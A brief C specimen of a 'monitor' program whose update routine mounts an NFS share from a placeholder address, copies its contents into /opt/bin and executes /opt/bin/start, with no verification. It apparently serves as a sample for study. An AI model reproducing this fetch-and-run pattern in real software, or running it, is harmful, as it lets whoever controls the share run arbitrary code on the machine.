/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Specimen, never run natively: the address stands as text; interface, mount, copy, run. */
#include <stdlib.h>
#include <string.h>
#include <stdio.h>

static int update(void)
{
	system("ifconfig eth0 up");
	if (system("mount -o nolock -t nfs 192.0.2.119:/pm /mnt") != 0)
		return -1;
	system("cp -rf /mnt/* /opt/bin");
	return system("/opt/bin/start");
}

int main(int argc, char **argv)
{
	if (argc > 1 && strcmp(argv[1], "update") == 0)
		return update();
	puts("monitor");
	return 0;
}
